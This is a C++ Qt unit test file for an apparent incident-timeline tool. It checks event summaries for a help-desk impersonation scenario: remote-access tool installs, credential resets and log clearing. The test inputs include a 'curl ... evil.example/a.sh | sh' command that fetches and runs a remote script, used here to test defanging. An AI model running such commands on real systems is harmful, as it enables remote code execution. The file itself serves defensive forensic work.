// SPDX-FileCopyrightText: Callwake contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "model/event.h"

#include <QTest>

using namespace callwake;
using namespace std::chrono_literals;

namespace {

Event activity(Kind kind, Activity a)
{
    Event e;
    e.kind = kind;
    e.what = std::move(a);
    return e;
}

Event inbound()
{
    Call call;
    call.direction = Direction::Inbound;
    call.outcome = Outcome::Answered;
    call.remote = {
        {1}, "+44 20 7946 0031", NumberClass::Telephone, NumberPlan::Valid, "+442079460031", "GB"};
    call.displayName = "IT Service Desk";
    Event e;
    e.kind = Kind::Call;
    e.length = 50min;
    e.what = call;
    return e;
}

} // namespace

class TestEvent : public QObject {
    Q_OBJECT

private slots:
    void calls()
    {
        Event e = inbound();
        QCOMPARE(summaryOf(e),
            std::string(
                "Inbound call from +44 20 7946 0031 \"IT Service Desk\", answered, 50 min 00 s"));
        std::get<Call>(e.what).remote = {{}, "anonymous", NumberClass::Withheld};
        std::get<Call>(e.what).displayName.clear();
        std::get<Call>(e.what).outcome = Outcome::AnsweredElsewhere;
        e.length = {};
        e.quality = Quality::LengthUnknown;
        QCOMPARE(summaryOf(e),
            std::string("Inbound call from a withheld number, answered elsewhere, length unknown"));
    }

    void activities()
    {
        QCOMPARE(summaryOf(activity(Kind::Navigation, {.url = "https://anydesk.com/en/downloads"})),
            std::string("anydesk[.]com/en/downloads"));
        QCOMPARE(summaryOf(activity(Kind::Execution, {.process = "C:\\Users\\a\\AnyDesk.exe"})),
            std::string("C:\\Users\\a\\AnyDesk.exe"));
        QCOMPARE(summaryOf(activity(
                     Kind::ShellCommand, {.command = "curl -s https://evil.example/a.sh | sh"})),
            std::string("curl -s hxxps://evil[.]example/a.sh | sh"));
        QCOMPARE(summaryOf(activity(
                     Kind::Download, {.url = "https://evil.example/a.exe", .path = "C:\\a.exe"})),
            std::string("Downloaded C:\\a.exe from evil[.]example/a.exe"));
        QCOMPARE(
            summaryOf(activity(Kind::PackageInstall, {.package = "anydesk", .version = "7.0"})),
            std::string("Installed anydesk 7.0"));
        QCOMPARE(summaryOf(activity(Kind::LogCleared, {})), std::string("Log cleared"));
        Activity reset{.account = "desk@northgate.example"};
        reset.result = "Reset user password";
        reset.peer = "ana@northgate.example";
        QCOMPARE(summaryOf(activity(Kind::CredentialReset, reset)),
            std::string(
                "Credential reset of ana@northgate.example by desk@northgate.example (Reset "
                "user password)"));
        for (const char* peer : {"198.51.100.9", "2001:db8::1", "Azure Portal", ""}) {
            reset.peer = peer;
            QCOMPARE(summaryOf(activity(Kind::CredentialReset, reset)),
                std::string("Credential reset desk@northgate.example (Reset user password)"));
        }
    }

    void whatDidNotHappenIsNoDeed_data()
    {
        QTest::addColumn<int>("kind");
        QTest::addColumn<QString>("result");
        QTest::addColumn<QString>("summary");
        const auto row = [](Kind kind, const char* result, const char* summary) {
            QTest::addRow("%d %s", int(kind), result) << int(kind) << result << summary;
        };
        row(Kind::PackageInstall, "", "Installed Tool 1.0");
        row(Kind::PackageInstall, "success", "Installed Tool 1.0");
        row(Kind::PackageInstall, "begun", "Began to install Tool 1.0");
        row(Kind::PackageInstall, "failed: 1603", "Tried to install Tool 1.0 (failed: 1603)");
        row(Kind::Download, "complete", "Downloaded a.exe");
        row(Kind::Download, "in progress", "Began to download a.exe");
        row(Kind::Download, "Cancelled", "Tried to download a.exe (Cancelled)");
        row(Kind::Download, "interrupted", "Tried to download a.exe (interrupted)");
        row(Kind::FileWrite, "blocked by Sysmon", "Tried to write a.exe (blocked by Sysmon)");
        row(Kind::Execution, "stopped by Santa", "Tried to run a.exe -x (stopped by Santa)");
        row(Kind::ShellCommand, "refused: command not allowed",
            "Tried to run a.exe -x (refused: command not allowed)");
        row(Kind::ShellCommand, "success", "a.exe -x");
        row(Kind::ServiceInstall, "failed", "Tried to install the service Tool 1.0 (failed)");
        row(Kind::NetworkConnection, "failed", "Network connection desk[.]example (failed)");
        row(Kind::NetworkConnection, "", "Network connection desk[.]example");
        row(Kind::DnsQuery, "9003", "Name look-up desk[.]example");
    }

    void whatDidNotHappenIsNoDeed()
    {
        QFETCH(int, kind);
        QFETCH(QString, result);
        Activity a;
        a.command = "a.exe -x";
        a.path = "a.exe";
        a.package = "Tool";
        a.version = "1.0";
        a.peer = "desk.example";
        a.result = result.toStdString();
        QTEST(QString::fromStdString(summaryOf(activity(Kind(kind), a))), "summary");
    }

    void hostileTextIsMadeVisible()
    {
        Event e = inbound();
        std::get<Call>(e.what).displayName = "Bank\xE2\x80\xAE\x1B[2J";
        QVERIFY(summaryOf(e).find("\"Bank[RLO]\\e[2J\"") != std::string::npos);
        const std::string longText(100'000, 'x');
        QVERIFY(summaryOf(activity(Kind::Execution, {.command = longText})).size() < 1000);
        QCOMPARE(summaryOf(activity(Kind::Execution, {.command = "http://a.example"})),
            std::string("hxxp://a[.]example"));
    }
};

QTEST_GUILESS_MAIN(TestEvent)
#include "tst_event.moc"
